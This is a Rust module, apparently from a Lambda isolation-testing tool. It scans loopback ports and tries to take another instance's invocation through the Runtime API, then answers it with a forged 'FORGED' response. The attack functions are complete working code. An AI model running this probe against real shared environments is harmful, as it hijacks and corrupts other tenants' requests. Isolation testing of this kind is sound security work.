//! The `probe` action: learn every TCP port this instance can reach and try to steal another
//! instance's invocation through its Runtime API.
//!
//! Ports are learned from the environment (any `host:port` or bare port number), from the
//! LISTEN sockets in `/proc/net/tcp{,6}`, and by a connect scan of `127.0.0.1:1024-65535`.
//! Every open port but our own Runtime API gets a `GET .../invocation/next`; a reply that
//! carries a request id is answered with a forged `FORGED` response: the attack.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

/// Per connect; loopback refusals are instant, so this only bounds filtered or odd ports.
const CONNECT_TIMEOUT: Duration = Duration::from_millis(50);
/// How long a probed port has to answer.
const READ_TIMEOUT: Duration = Duration::from_millis(300);
/// Threads for the connect scan and the probes (a few: this is a 2-core machine).
const THREADS: usize = 4;
const SCAN_PORTS: std::ops::RangeInclusive<u16> = 1024..=65535;
const REQUEST_ID_HEADER: &str = "lambda-runtime-aws-request-id";

/// Runs the probe; `scan: false` skips the 64k connect scan but still probes learned ports.
pub fn probe(scan: bool) -> Value {
    let own_api = std::env::var("AWS_LAMBDA_RUNTIME_API").unwrap_or_default();
    let own_port = ports_in_value(&own_api).last().copied();

    let mut learned = BTreeSet::new();
    for (_, value) in std::env::vars_os() {
        learned.extend(ports_in_value(&value.to_string_lossy()));
    }
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        if let Ok(text) = std::fs::read_to_string(table) {
            learned.extend(listening_ports(&text));
        }
    }

    let started = Instant::now();
    // Port -> the loopback address that accepted.
    let mut open: BTreeMap<u16, SocketAddr> = BTreeMap::new();
    for &port in &learned {
        let v4 = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
        let v6 = SocketAddr::from((Ipv6Addr::LOCALHOST, port));
        if let Some(addr) = [v4, v6].into_iter().find(|a| accepts(*a)) {
            open.insert(port, addr);
        }
    }
    if scan {
        for port in scan_loopback() {
            open.entry(port)
                .or_insert_with(|| SocketAddr::from((Ipv4Addr::LOCALHOST, port)));
        }
    }
    let scan_ms = started.elapsed().as_millis();

    let targets: Vec<(u16, SocketAddr)> = open
        .iter()
        .filter(|(port, _)| Some(**port) != own_port)
        .map(|(port, addr)| (*port, *addr))
        .collect();
    let answers = parallel(&targets, |&(port, addr)| attack(port, addr));
    let stolen: Vec<Value> = answers
        .iter()
        .filter(|a| a.get("forged_status").is_some())
        .cloned()
        .collect();

    json!({
        "own_api": own_api,
        "learned": learned,
        "open": open.keys().collect::<Vec<_>>(),
        "answers": answers,
        "stolen": stolen,
        "scan_ms": scan_ms,
    })
}

/// Ports named in one environment value: a bare port number, or every `:<digits>` that
/// ends the value or is followed by a delimiter and is not part of an IPv6 address
/// (`127.0.0.1:9001`, `http://localhost:8080/x`, `[::1]:9000`).
pub fn ports_in_value(value: &str) -> Vec<u16> {
    let value = value.trim();
    if !value.is_empty() && value.len() <= 5 && value.bytes().all(|b| b.is_ascii_digit()) {
        return value
            .parse::<u16>()
            .ok()
            .filter(|p| *p != 0)
            .into_iter()
            .collect();
    }
    let bytes = value.as_bytes();
    let mut ports = Vec::new();
    for (i, _) in value.match_indices(':') {
        let digits = bytes[i + 1..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        let end = i + 1 + digits;
        // Not a port: `:80abc`, or a piece of an IPv6 address (`::1`, `[::1]`, `fe80:1:`).
        let delimited = bytes
            .get(end)
            .is_none_or(|b| !b.is_ascii_alphanumeric() && !b"]:".contains(b));
        let ipv6 = i > 0 && bytes[i - 1] == b':';
        if digits == 0 || digits > 5 || !delimited || ipv6 {
            continue;
        }
        if let Some(port) = value[i + 1..end].parse::<u16>().ok().filter(|p| *p != 0) {
            ports.push(port);
        }
    }
    ports
}

/// The local ports of LISTEN sockets (state `0A`) in a `/proc/net/tcp` or `tcp6` table.
pub fn listening_ports(table: &str) -> Vec<u16> {
    table
        .lines()
        .skip(1)
        .filter_map(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            if fields.get(3) != Some(&"0A") {
                return None;
            }
            let (_, port) = fields.get(1)?.rsplit_once(':')?;
            u16::from_str_radix(port, 16).ok().filter(|p| *p != 0)
        })
        .collect()
}

/// Whether `addr` accepts a TCP connection (not counting a socket connected to itself,
/// which a loopback scan of the ephemeral range can produce).
fn accepts(addr: SocketAddr) -> bool {
    match TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT) {
        Ok(s) => s.local_addr().ok() != s.peer_addr().ok(),
        Err(_) => false,
    }
}

/// Every port in [`SCAN_PORTS`] that accepts on `127.0.0.1`, with [`THREADS`] threads.
fn scan_loopback() -> Vec<u16> {
    let ports: Vec<u16> = SCAN_PORTS.collect();
    let mut open: Vec<u16> = parallel(&ports, |&port| {
        accepts(SocketAddr::from((Ipv4Addr::LOCALHOST, port))).then_some(port)
    })
    .into_iter()
    .flatten()
    .collect();
    open.sort_unstable();
    open
}

/// `f` over `items` on up to [`THREADS`] scoped threads, results in order.
fn parallel<T: Sync, R: Send>(items: &[T], f: impl Fn(&T) -> R + Sync) -> Vec<R> {
    if items.is_empty() {
        return Vec::new();
    }
    let chunk = items.len().div_ceil(THREADS);
    std::thread::scope(|s| {
        let handles: Vec<_> = items
            .chunks(chunk)
            .map(|part| s.spawn(|| part.iter().map(&f).collect::<Vec<R>>()))
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap_or_default())
            .collect()
    })
}

/// Asks `addr` for the next invocation; if it hands one over, answers it with `FORGED`.
fn attack(port: u16, addr: SocketAddr) -> Value {
    let next = b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n";
    let head = match exchange(addr, next) {
        Ok(head) => head,
        Err(e) => return json!({"port": port, "status": null, "error": io_error(&e)}),
    };
    let (status, request_id) = parse_head(&head);
    let mut answer = json!({"port": port, "status": status, "request_id": request_id});
    if let Some(id) = request_id {
        let forged = format!(
            "POST /2018-06-01/runtime/invocation/{id}/response HTTP/1.1\r\nHost: x\r\n\
             Content-Type: application/json\r\nContent-Length: 6\r\nConnection: close\r\n\r\nFORGED"
        );
        answer["forged_status"] = match exchange(addr, forged.as_bytes()) {
            Ok(head) => json!(parse_head(&head).0),
            Err(e) => json!(io_error(&e)),
        };
    }
    answer
}

/// Sends `request` and reads the reply's head (up to the blank line, 16 KiB, EOF or
/// [`READ_TIMEOUT`] in all, whichever comes first). A timeout with nothing read is an error.
fn exchange(addr: SocketAddr, request: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut s = TcpStream::connect_timeout(&addr, CONNECT_TIMEOUT)?;
    s.set_write_timeout(Some(READ_TIMEOUT))?;
    s.write_all(request)?;
    let deadline = Instant::now() + READ_TIMEOUT;
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < 16 * 1024 {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            break;
        }
        s.set_read_timeout(Some(left))?;
        match s.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => head.extend_from_slice(&buf[..n]),
            Err(e) if head.is_empty() => return Err(e),
            Err(_) => break,
        }
    }
    Ok(head)
}

/// The status line of an HTTP reply head, and its `lambda-runtime-aws-request-id`.
pub fn parse_head(head: &[u8]) -> (Option<String>, Option<String>) {
    let text = String::from_utf8_lossy(head);
    let mut lines = text.split('\n').map(|l| l.trim_end_matches('\r'));
    let status = lines.next().filter(|l| !l.is_empty()).map(str::to_owned);
    let request_id = lines
        .take_while(|l| !l.is_empty())
        .filter_map(|l| l.split_once(':'))
        .find(|(name, _)| name.trim().eq_ignore_ascii_case(REQUEST_ID_HEADER))
        .map(|(_, value)| value.trim().to_owned())
        .filter(|id| !id.is_empty());
    (status, request_id)
}

/// An io error as `"<kind>: <message>"`.
pub fn io_error(e: &std::io::Error) -> String {
    format!("{:?}: {e}", e.kind())
}

/// `connect`: one TCP connection to `addr` (an outbound-network check); reads a line if
/// the server sends one.
pub fn connect(addr: &str) -> Value {
    let target = match addr.parse::<SocketAddr>() {
        Ok(a) => a,
        Err(e) => return json!({"ok": false, "error": format!("bad address {addr:?}: {e}")}),
    };
    match TcpStream::connect_timeout(&target, Duration::from_secs(2)) {
        Ok(mut stream) => {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
            let mut buf = [0u8; 64];
            let n = stream.read(&mut buf).unwrap_or(0);
            json!({"ok": true, "greeting": String::from_utf8_lossy(&buf[..n])})
        }
        Err(e) => json!({"ok": false, "error": io_error(&e)}),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn listening_ports_reads_listen_sockets_only() {
        let tcp = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   \
            0: 0100007F:2329 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1 0 100 0 0 10 0\n   \
            1: 0100007F:A1B2 0100007F:2329 01 00000000:00000000 00:00000000 00000000     0        0 2 1 0 20 4 30 10 -1\n";
        assert_eq!(listening_ports(tcp), vec![9001]);
        let tcp6 = "  sl  local_address                         remote_address                        st tx_queue rx_queue\n   \
            0: 00000000000000000000000000000000:1F90 00000000000000000000000000000000:0000 0A 00000000:00000000\n   \
            1: 00000000000000000000000001000000:0050 00000000000000000000000000000000:0000 06 00000000:00000000\n";
        assert_eq!(listening_ports(tcp6), vec![8080]);
        assert!(listening_ports("header only\n").is_empty());
        assert!(listening_ports("").is_empty());
    }

    #[test]
    fn ports_in_value_finds_host_ports_and_bare_numbers() {
        assert_eq!(ports_in_value("127.0.0.1:9001"), vec![9001]);
        assert_eq!(ports_in_value("http://localhost:8080/path"), vec![8080]);
        assert_eq!(ports_in_value("[::1]:9000"), vec![9000]);
        assert_eq!(ports_in_value(" 5432 "), vec![5432]);
        assert_eq!(ports_in_value("a:1,b:2"), vec![1, 2]);
        assert_eq!(ports_in_value("[fe80::1:2]:443"), vec![443]);
        assert!(ports_in_value("::1").is_empty());
        assert!(ports_in_value("/usr/bin:/bin").is_empty());
        assert!(ports_in_value("0").is_empty());
        assert!(ports_in_value("70000").is_empty());
        assert!(ports_in_value("host:123456").is_empty());
        assert!(ports_in_value("x:80abc").is_empty());
        assert!(ports_in_value("").is_empty());
        assert!(ports_in_value("info").is_empty());
    }

    #[test]
    fn parse_head_reads_status_and_request_id() {
        let head = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\
            Lambda-Runtime-Aws-Request-Id: abc-123 \r\n\r\n{}";
        assert_eq!(
            parse_head(head),
            (Some("HTTP/1.1 200 OK".into()), Some("abc-123".into()))
        );
        let head = b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n";
        assert_eq!(
            parse_head(head),
            (Some("HTTP/1.1 404 Not Found".into()), None)
        );
        // A header after the blank line is body, not a header.
        let head = b"HTTP/1.1 200 OK\r\n\r\nlambda-runtime-aws-request-id: x\r\n";
        assert_eq!(parse_head(head).1, None);
        assert_eq!(parse_head(b""), (None, None));
    }
}
